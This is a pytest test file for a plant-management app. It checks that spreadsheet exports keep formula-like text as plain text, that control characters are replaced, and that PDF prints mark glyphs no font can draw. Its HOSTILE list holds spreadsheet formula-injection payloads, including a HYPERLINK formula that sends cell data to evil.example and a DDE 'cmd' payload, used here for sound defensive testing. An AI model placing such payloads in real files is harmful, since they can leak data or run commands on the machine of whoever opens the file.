"""Safe exports and prints: text that looks like a formula stays text in every .xlsx the app writes, characters an .xlsx
cannot hold are shown as U+FFFD, every PDF kind prints a character no bundled font has (an emoji) as a visible mark,
and one-line fields lose their control characters when they are typed."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas
from reportlab.platypus import Paragraph, SimpleDocTemplate
from sqlalchemy import update

from bench.inspections_synth import synthetic_content
from gridapp.actor import Actor
from gridapp.inspections.prints.checklist import build_checklist
from gridapp.inspections.prints.document import build_document
from gridapp.inspections.prints.options import ChecklistOptions, Source
from gridapp.inspections.service import InspectionService
from gridapp.inspections.workbook import write_items
from gridapp.io.workbooks import REPLACEMENT, cell_text, csv_text
from gridapp.issues.handover import handover_pdf
from gridapp.issues.kinds import Action, HazardGrade
from gridapp.issues.ledger import ledger_pdf, ledger_xlsx
from gridapp.issues.register import register_pdf
from gridapp.issues.rows import HazardDraft
from gridapp.org.kinds import PartyStatus
from gridapp.org.models import Person
from gridapp.org.normalize import single_line
from gridapp.org.print_chart import chart_data, org_chart_pdf
from gridapp.org.print_coverage import coverage_pdf
from gridapp.org.print_placard import placard_pdf
from gridapp.org.rows import AreaFields, PersonFields
from gridapp.reports.fonts import CJK, register_fonts
from gridapp.reports.fonts import REPLACEMENT as MARK
from gridapp.reports.pdf import numbered_canvas, style
from gridapp.scoring.export import Sheet, write_xlsx
from gridapp.scoring.periods import Period, PeriodKind
from gridapp.scoring.reports import gather, points_table_pdf, star_board_pdf
from gridapp.services import Services
from gridapp.times import plant_today
from tests.inspections.conftest import document_of, dosing, dosing_card, ins  # noqa: F401 (fixtures)
from tests.issues.conftest import LEADER, Plant, _org_only, clock, org_db, plant  # noqa: F401 (fixtures)
from tests.org_helpers import actor, person, unit
from tests.pdf_checks import assert_all_fonts_embedded, pdf_text

UNDRAWN = "\U00020000"  # 𠀀 (CJK Extension B): no font of the chain draws it (emoji are drawn by Symbola)
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


def _text_cells(path: Path) -> dict[str, tuple[str, bool]]:
    """Every string cell of every sheet: value → (data type, quote prefix)."""
    book = load_workbook(path)
    return {c.value: (c.data_type, c.quotePrefix) for ws in book.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}  # fmt: skip


def _assert_all_text(cells: dict[str, tuple[str, bool]], values: list[str]) -> None:
    for value in (v.replace("\r", "\n") for v in values):  # XML reads a bare CR as a line feed
        assert value in cells, value
        assert cells[value] == ("s", True), (value, cells[value])  # text, kept text when edited in Excel
    assert not any(kind == "f" for kind, _ in cells.values())


# --- .xlsx --------------------------------------------------------------------------------------------------------------


def test_formula_like_text_and_control_characters_in_the_shared_sheet_writer(tmp_path: Path) -> None:
    """scoring tables, rankings and the audit trail export all write through scoring.export.write_xlsx."""
    path = write_xlsx(
        tmp_path / "t.xlsx", [Sheet("审计\x0b", ["标题", "说明"], [[h, "含\x0b和\x00的文字"] for h in HOSTILE])]
    )
    cells = _text_cells(path)
    _assert_all_text(cells, HOSTILE)
    assert f"含{REPLACEMENT}和{REPLACEMENT}的文字" in cells
    assert load_workbook(path).sheetnames == [f"审计{REPLACEMENT}"]


def test_the_hazard_ledger_workbook(plant: Plant, tmp_path: Path) -> None:  # noqa: F811 (the fixture)
    for title in HOSTILE[:4]:
        plant.report(title=title, category="hazard",
                     hazard=HazardDraft(HazardGrade.GENERAL, responsible_id=plant.people["DH0008"], measures="@更换"))  # fmt: skip
    rows = plant.service.hazard_ledger(plant.units["DH"])
    # a title from before input was cleaned (or from an older station) still exports
    rows = [*rows, dataclasses.replace(rows[0], title="泵房\x0b漏水\x00")]
    path = ledger_xlsx(rows, tmp_path / "台账.xlsx", "=台账", plant.service.calendar())
    cells = _text_cells(path)
    _assert_all_text(cells, [*HOSTILE[:4], "@更换", "=台账"])
    assert f"泵房{REPLACEMENT}漏水{REPLACEMENT}" in cells


def test_the_roster_export(services: Services, tmp_path: Path) -> None:
    org = services.org
    org.people_edit.add_person(actor(services), PersonFields("=1+2", "X1", unit(services, "DH-W-01").id,
                                                             PartyStatus.MASSES, phone="+8613900000000"))  # fmt: skip
    with services.db.write(actor(services)) as s:  # a name written before input was cleaned
        s.execute(update(Person).where(Person.employee_no == "DH0013").values(name="王\x0b建\x00华"))
    path = org.roster.export(actor(services), tmp_path / "roster.xlsx")
    cells = _text_cells(path)
    _assert_all_text(cells, ["=1+2", "+8613900000000"])
    assert f"王{REPLACEMENT}建{REPLACEMENT}华" in cells


def test_the_card_items_workbook() -> None:
    content = synthetic_content(3)
    items = [dataclasses.replace(content.items[0], content=HOSTILE[0], standard="@标准\x0b")]
    out = io.BytesIO()
    write_items([*items, *content.items[1:]], "=卡片", out)
    path_cells = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    values = {c.value: (c.data_type, c.quotePrefix) for row in path_cells.iter_rows() for c in row}
    assert values[HOSTILE[0]] == ("s", True) and values[f"@标准{REPLACEMENT}"] == ("s", True)


def test_the_helpers_themselves() -> None:
    assert cell_text("a\x00b\x0bc\x1fd\te\nf") == f"a{REPLACEMENT}b{REPLACEMENT}c{REPLACEMENT}d\te\nf"
    assert [csv_text(h)[0] for h in HOSTILE] == ["'"] * len(HOSTILE)
    assert csv_text("泵房漏水") == "泵房漏水" and csv_text("1-2") == "1-2"


# --- PDFs ---------------------------------------------------------------------------------------------------------------


def _marked(pdf: bytes, *expected: str) -> str:
    assert_all_fonts_embedded(pdf)
    text = "".join(pdf_text(pdf)).replace("\n", "")
    assert UNDRAWN not in text
    for piece in expected:
        assert piece in text, piece
    return text


def test_every_way_of_drawing_text_marks_what_no_font_has(caplog: pytest.LogCaptureFixture) -> None:
    register_fonts()
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4, initialFontName=CJK)
    canvas.setFont(CJK, 12)
    canvas.drawString(40, 800, f"drawString 泵房漏水{UNDRAWN}")
    canvas.drawCentredString(300, 780, f"centred 泵房漏水{UNDRAWN}")
    canvas.drawRightString(550, 760, f"right 泵房漏水{UNDRAWN}")
    text = canvas.beginText(40, 740)
    text.setFont(CJK, 12)
    text.textLine(f"textLine 泵房漏水{UNDRAWN}")
    canvas.drawText(text)
    assert canvas.stringWidth(f"漏{UNDRAWN}", CJK, 12) == canvas.stringWidth(f"漏{MARK}", CJK, 12)
    canvas.save()
    paragraph = io.BytesIO()
    SimpleDocTemplate(paragraph).build(
        [Paragraph(f"paragraph 泵房漏水{UNDRAWN}", style())], canvasmaker=numbered_canvas()
    )
    for pdf in (out.getvalue(), paragraph.getvalue()):
        text = _marked(pdf, f"泵房漏水{MARK}")
    assert "drawString" in _marked(out.getvalue()) and "textLine" in _marked(out.getvalue())


def test_the_handover_sheet_the_hazard_ledger_and_the_held_register(plant: Plant) -> None:  # noqa: F811 (the fixture)
    plant.report(title=f"泵房漏水{UNDRAWN}", category="hazard",
                 hazard=HazardDraft(HazardGrade.GENERAL, responsible_id=plant.people["DH0008"], measures=f"堵漏{UNDRAWN}",
                                    deadline=dt.date(2026, 3, 10)))  # fmt: skip
    svc = plant.service
    _marked(handover_pdf(svc.handover(plant.units["DH"]), svc.calendar(), plant.names[LEADER]), f"泵房漏水{MARK}")
    rows = svc.hazard_ledger(plant.units["DH"])
    _marked(ledger_pdf(rows, f"台账{UNDRAWN}", "打印日期", svc.calendar()), f"泵房漏水{MARK}", f"台账{MARK}")
    held = plant.report(title=f"围墙外排水沟堵塞{UNDRAWN}").id
    svc.act(plant.actor(LEADER), held, Action.HOLD, f"需厂级立项{UNDRAWN}")
    register = register_pdf(svc.held_register(plant.units["DH"]), "挂账问题台账", "截至", svc.calendar(), plant_today())
    _marked(register, f"排水沟堵塞{MARK}")


def test_the_organisation_prints(services: Services) -> None:
    org = services.org
    who = actor(services)
    grid = unit(services, "DH-W-01")
    org.people_edit.add_person(who, PersonFields(f"王{UNDRAWN}", "X9", grid.id, PartyStatus.MASSES))
    _marked(org_chart_pdf(chart_data(org, grid.id)), f"王{MARK}")
    _marked(coverage_pdf(org.guardianship.coverage(unit(services, "DH").id)), f"王{MARK}")
    area = org.areas.add_area(who, AreaFields(grid.id, f"泵房{UNDRAWN}", duties=f"防漏{UNDRAWN}"))
    _marked(placard_pdf([org.areas.placard(area)]), f"泵房{MARK}")


def test_the_inspection_prints(services: Services, ins: InspectionService, dosing, dosing_card) -> None:  # noqa: F811
    leader = person(services, "DH0001")
    fields = services.org.people_edit.fields(leader.id)
    services.org.people_edit.update_person(
        actor(services), leader.id, dataclasses.replace(fields, name=f"熊德明{UNDRAWN}")
    )
    card = Source(dosing_card)
    _marked(ins.prints.board(card, "A2"), f"熊德明{MARK}")
    _marked(ins.prints.board_tiles(card, "A1", "A3", 10), f"熊德明{MARK}")
    _marked(ins.prints.pocket_cards(Source(document_of(ins, dosing, "risk_card")), copies=2), f"熊德明{MARK}")
    content = ins.prints.content(card)
    items = (dataclasses.replace(content.items[0], content=f"检查泵房漏水{UNDRAWN}"), *content.items[1:])
    _marked(build_checklist(dataclasses.replace(content, items=items), ChecklistOptions()), f"泵房漏水{MARK}")
    handbook = ins.prints.content(Source(document_of(ins, dosing, "handbook")))
    _marked(build_document(dataclasses.replace(handbook, title=f"手册{UNDRAWN}")), f"手册{MARK}")


def test_the_score_postings(services: Services) -> None:
    root = services.org.units()[0]
    leader = person(services, "DH0001")
    who = Actor(station_id=services.db.station.id, person_id=leader.id, name=leader.name)
    quarter = Period.of(PeriodKind.QUARTER, plant_today()).previous()
    posting = gather(services.scoring, who, "star", quarter, root.id, f"东湖水厂{UNDRAWN}")
    _marked(points_table_pdf(posting), f"东湖水厂{MARK}")
    _marked(star_board_pdf(posting), f"东湖水厂{MARK}")


# --- input --------------------------------------------------------------------------------------------------------------


def test_control_characters_leave_an_issue_title_as_it_is_typed(plant: Plant) -> None:  # noqa: F811 (the fixture)
    assert single_line(" 泵房\x0b漏水\x00\r\n第二行\u202e ") == "泵房 漏水 第二行"
    ref = plant.report(title="泵房\x0b漏水\x00")
    detail = plant.service.detail(ref.id)
    assert detail is not None and detail.row.title == "泵房 漏水"


def test_control_characters_leave_names_and_codes_as_they_are_typed(services: Services) -> None:
    new = services.org.people_edit.add_person(
        actor(services), PersonFields("王\x00建华\x07", "X\x0b7", unit(services, "DH-W-01").id, PartyStatus.MASSES)
    )
    fields = services.org.people_edit.fields(new)
    assert (fields.name, fields.employee_no) == ("王建华", "X7")
